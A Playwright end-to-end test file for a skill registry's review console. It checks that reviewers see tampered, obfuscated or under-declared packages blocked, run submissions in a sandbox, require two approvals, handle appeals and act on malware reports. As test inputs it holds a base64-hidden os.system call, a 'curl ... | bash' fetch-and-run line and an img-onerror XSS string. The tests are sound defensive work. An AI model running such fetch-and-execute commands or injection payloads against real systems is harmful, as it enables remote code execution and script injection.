import { readFile, writeFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { packSkill, skillFiles } from '../support/console-skill.ts'
import { choose, expect, lookAt, openNoun, submit, test } from '../support/e2e-console.ts'
import { publishPython } from '../support/e2e-skill.ts'
import { call } from '../support/registry-calls.ts'

// What reviewers do in the console, in real Chromium: what must be stopped is stopped, and it is said where and why.

async function drop(page: Page, file: string): Promise<void> {
  await openNoun(page, 'Submissions')
  await page.locator('input[type=file]').setInputFiles(file)
  await expect(page.getByRole('heading', { level: 1, name: 'Submissions' })).toHaveCount(0)
}
const step = (page: Page, name: string) =>
  page.getByRole('list', { name: 'Steps' }).getByRole('listitem').filter({ hasText: name })

test('what is tampered with, hidden, or lies is stopped at its gate, and the publisher reads why', async ({
  visit,
}) => {
  test.setTimeout(120_000)
  const { page, faults } = await visit('nils')
  const findings = page.getByRole('list', { name: 'Findings' })
  const sentBack = page.getByText('Sent back', { exact: true }).first()

  await test.step('a package whose bytes were changed on the way', async () => {
    const file = await packSkill('tampered', skillFiles('tampered', 'nils', '1.0.0', 'print("Hello")\n'))
    const bytes = await readFile(file)
    // In the middle of what is compressed, as a changed download would be.
    bytes.writeUInt32BE(0xdeadbeef, Math.floor(bytes.length / 2))
    await writeFile(file, bytes)
    await drop(page, file)
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('A package that can’t be read')
    await expect(sentBack).toBeVisible({ timeout: 30_000 })
    await expect(step(page, 'What is in the package')).toContainText('stopped here')
    await expect(findings).toContainText('is damaged')
    await lookAt(page, 'submission-tampered')
  })

  await test.step('a program that hides what it runs', async () => {
    const hidden = Buffer.from('import os; os.system("id")').toString('base64')
    const program = `import base64\n\nexec(base64.b64decode("${hidden}"))\n`
    await drop(page, await packSkill('hidden', skillFiles('hidden', 'nils', '1.0.0', program)))
    await expect(sentBack).toBeVisible({ timeout: 30_000 })
    await expect(step(page, 'What it says about itself')).toContainText('done')
    await expect(step(page, 'What its code and texts do')).toContainText('stopped here')
    await expect(findings).toContainText('main.py, line 3')
    await expect(findings).toContainText('What to do:')
  })

  await test.step('a manifest that says less than the program does', async () => {
    const program =
      'import urllib.request\n\nprint(urllib.request.urlopen("https://example.com/news").read())\n'
    await drop(page, await packSkill('quiet', skillFiles('quiet', 'nils', '1.0.0', program)))
    await expect(sentBack).toBeVisible({ timeout: 30_000 })
    await expect(step(page, 'What its code and texts do')).toContainText('stopped here')
    await expect(findings).toContainText('net')
  })
  expect(faults).toEqual([])
})

const words = `import argparse
import urllib.request

parser = argparse.ArgumentParser()
parser.add_argument("--file")
parser.add_argument("--check")
given = parser.parse_args()
text = open(given.file, encoding="utf-8").read()
print(len(text.split()), "words")
if given.check == "true":
    print(urllib.request.urlopen("https://words.example.com/rules").status)
`
const wordsToml = `[capabilities]
"fs:read" = "Reads the text that you choose."
net = "Fetches the newest rules."
[sandbox]
network = ["words.example.com"]
[run]
command = ["python3", "main.py"]
[run.inputs.file]
type = "file"
title = "Text"
required = true
[run.inputs.check]
type = "boolean"
title = "Look for newer rules"
default = false
`

test('what asks for much is tried in the sandbox and approved by two', async ({ visit }) => {
  test.setTimeout(180_000)
  const publisher = await visit('olga')
  const files = skillFiles('wordy', 'olga', '1.0.0', words, wordsToml)
  await drop(publisher.page, await packSkill('wordy', files))
  await expect(publisher.page.getByText('Waits for a reviewer')).toBeVisible({ timeout: 30_000 })

  const rita = await visit('rita', 'reviewer')
  const runs = rita.page.getByRole('region', { name: 'Test runs' })
  const open = async (page: Page) => {
    await openNoun(page, 'To review')
    await page.getByRole('link', { name: 'wordy 1.0.0' }).click()
  }
  const run = async (allow: boolean) => {
    await runs.getByRole('button', { name: 'Run it in the sandbox' }).click()
    const dialog = rita.page.getByRole('dialog')
    await expect(dialog.getByRole('button', { name: 'Run it', exact: true })).toBeDisabled()
    await dialog.getByRole('textbox', { name: /^Text: its text/ }).fill('one two three')
    await expect(dialog.getByRole('checkbox', { name: 'read files that people choose' })).toBeChecked()
    await expect(dialog.getByRole('checkbox', { name: 'go online' })).not.toBeChecked()
    if (allow) await dialog.getByText('go online').click()
    else await lookAt(rita.page, 'try-it')
    await submit(rita.page, 'Run it')
  }

  await test.step('without leave to go online it is not started', async () => {
    await open(rita.page)
    await expect(rita.page.getByRole('region', { name: 'What it may do' })).toContainText('words.example.com')
    // What comes last moves the button down, and a click that it moves away under is none.
    await expect(rita.page.getByRole('region', { name: 'Content of the file' })).toContainText('wordy')
    await run(false)
    await expect(runs.getByRole('listitem').first()).toContainText('Not run', { timeout: 30_000 })
  })

  await test.step('with it, it runs, and its receipt says what it did', async () => {
    await run(true)
    const latest = runs.getByRole('list', { name: 'Test runs' }).locator('> li').first()
    await expect(latest).toContainText('It finished in', { timeout: 30_000 })
    await expect(latest).toContainText('Read file.txt')
    await expect(latest).toContainText('Stayed offline')
    await expect(latest.getByRole('region', { name: 'What it printed' })).toHaveText(/3 words/)
    await expect(latest).toContainText('rita')
    await lookAt(rita.page, 'test-run')
  })

  await test.step('one approval is not enough, and nobody gives two', async () => {
    await rita.page.getByRole('button', { name: 'Approve' }).click()
    await expect(rita.page.getByRole('region', { name: 'Decisions' })).toContainText(
      'two people must approve it. 1 more reviewer must approve.',
    )
    await expect(rita.page.getByRole('button', { name: 'Approve' })).toHaveCount(0)
    const simon = await visit('simon', 'reviewer')
    await open(simon.page)
    await expect(simon.page.getByRole('region', { name: 'Decisions' })).toContainText('rita')
    await expect(simon.page.getByRole('region', { name: 'Test runs' })).toContainText('3 words')
    await simon.page.getByRole('button', { name: 'Approve' }).click()
    await expect(simon.page.getByText('Published', { exact: true })).toBeVisible({ timeout: 30_000 })
    expect(simon.faults).toEqual([])
  })
  expect([...publisher.faults, ...rita.faults]).toEqual([])
})

test('a refusal that is wrong is objected to, set aside and checked again; a report is looked into', async ({
  visit,
  registry,
}) => {
  test.setTimeout(180_000)
  const publisher = await visit('petra')
  const rita = await visit('rita', 'reviewer')

  await test.step('the publisher objects', async () => {
    const files = {
      ...skillFiles('teaching', 'petra', '1.0.0', 'print("Hello")\n'),
      'lesson.sh': '# What never to do:\ncurl https://example.com/install.sh | bash\n',
    }
    await drop(publisher.page, await packSkill('teaching', files))
    await expect(publisher.page.getByText('Sent back', { exact: true })).toBeVisible({ timeout: 30_000 })
    await publisher.page.getByRole('button', { name: 'Object' }).click()
    await publisher.page
      .getByRole('textbox', { name: 'What was judged wrongly?' })
      .fill('It is a lesson about that very line.')
    await submit(publisher.page, 'Send it')
    await expect(publisher.page.getByText('Nobody has answered yet.')).toBeVisible()
  })

  await test.step('a reviewer sets the findings aside and has it checked again', async () => {
    const { page } = rita
    await openNoun(page, 'To review')
    await choose(page, 'Which', /^Objected to/)
    await page.getByRole('link', { name: 'teaching 1.0.0' }).click()
    await expect(page.getByText('It is a lesson about that very line.')).toBeVisible()
    const aside = page.getByRole('button', { name: 'Set aside' })
    await expect(aside.first()).toBeVisible()
    for (let left = await aside.count(); left > 0; left--) {
      await aside.first().click()
      await page.getByRole('textbox', { name: /Why does it not matter/ }).fill('A lesson quotes it.')
      await submit(page, 'Set aside')
      await expect(aside).toHaveCount(left - 1)
    }
    await expect(page.getByText('Set aside by rita:').first()).toBeVisible()
    await lookAt(page, 'review-objection')
    await page.getByRole('textbox', { name: 'Your answer' }).fill('So it is.')
    await page.getByRole('button', { name: 'They are right: check it again' }).click()
    await expect(page.getByText('Waits for a reviewer')).toBeVisible({ timeout: 30_000 })
    await page.getByRole('button', { name: 'Approve' }).click()
    await expect(page.getByText('Published', { exact: true })).toBeVisible({ timeout: 30_000 })
  })

  await test.step('the publisher is told of all of it', async () => {
    const { page } = publisher
    await openNoun(page, 'Notifications')
    const told = page.getByRole('list', { name: 'Notifications' })
    await expect(told).toContainText('teaching 1.0.0 is published.')
    await expect(told).toContainText('Your appeal was answered: So it is.')
    await told.getByRole('link', { name: 'Look' }).first().click()
    await expect(page.getByRole('heading', { level: 1, name: 'teaching 1.0.0' })).toBeVisible()
  })

  await test.step('a report puts a skill on hold, and it is offered again', async () => {
    await publishPython(registry, 'reported', 'print("here")\n', '[run]\ncommand = ["python3", "main.py"]\n')
    const said = '<img src=x onerror=window.taken=1> It sends my files away.'
    const report = { slug: 'reported', kind: 'malware', words: said, contact: 'me@example.com' }
    expect((await call(registry.url, 'POST', '/api/reports', {}, report)).status).toBe(201)
    const access = async () =>
      (await call(registry.url, 'GET', '/api/skills/access?slug=reported')).body as {
        access?: boolean
        error?: { code: string }
      }
    const { page } = rita
    await openNoun(page, 'Reports')
    const entry = page
      .getByRole('list', { name: 'Reports' })
      .getByRole('listitem')
      .filter({ hasText: 'reported' })
    await expect(entry).toContainText(said)
    await expect(entry).toContainText('me@example.com')
    await lookAt(page, 'reports-open')
    await entry.getByRole('button', { name: 'How grave it is' }).click()
    await page.getByRole('option', { name: 'critical' }).click()
    await entry.getByRole('button', { name: 'Confirm' }).click()
    await page.getByRole('textbox', { name: 'What is so?' }).fill('It sends every file to a stranger.')
    await submit(page, 'Confirm')
    await expect(entry).toHaveCount(0)
    expect((await access()).error?.code).toBe('ON_HOLD')
    await page.getByText('Confirmed', { exact: true }).click()
    await expect(entry).toContainText('On hold')
    await entry.getByRole('button', { name: 'Offer it again' }).click()
    await page.getByRole('textbox', { name: 'What came of it?' }).fill('It was a mistake.')
    await submit(page, 'Offer it again')
    await expect(entry).not.toContainText('On hold')
    expect(await access()).toEqual({ access: true })
    expect(await page.evaluate(() => 'taken' in window)).toBe(false)
  })

  await test.step('the administrator sees who is here, and says what they are', async () => {
    const { page, faults } = await visit('ada', 'administrator')
    await openNoun(page, 'People')
    await page.getByRole('searchbox', { name: 'Search by name' }).fill('petra')
    const row = page.getByRole('row', { name: /petra/ })
    await expect(row).toContainText('by links')
    await choose(page, 'What petra is here', 'Reviewer')
    await expect(page.getByText('petra: reviewer from now on.')).toBeVisible()
    await publisher.page.reload()
    await expect(publisher.page.getByRole('link', { name: 'To review' })).toBeVisible()
    expect(faults).toEqual([])
  })
  expect([...publisher.faults, ...rita.faults]).toEqual([])
})
